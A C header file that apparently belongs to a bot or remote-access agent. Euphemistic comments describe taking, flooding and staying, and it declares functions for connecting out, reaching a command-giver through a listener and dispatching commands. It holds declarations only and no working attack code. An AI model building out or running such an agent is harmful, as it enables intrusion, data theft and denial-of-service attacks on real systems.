/* SPDX-License-Identifier: GPL-3.0-or-later */
#ifndef GARASU_PUPPETS_CAPTIVE_H
#define GARASU_PUPPETS_CAPTIVE_H

/* captive.c looks around and makes calls; captive_deeds.c takes, floods and stays. */

#define ANSWER_SIZE 65536

/* A word as a number; "@" is the address of a scratch buffer, NULL is 0. */
long captive_number(const char *word);

/* Returns a connected socket or negative errno. */
int captive_connect(const char *address, const char *port);

/* Returns the connection to who gives the commands, by the listener on this port, or -1. */
int captive_way_out(const char *port);

/* Does a command of captive_deeds.c. Returns 0 if it is none. */
int captive_do(const char *command, char *rest, char *answer);

#endif
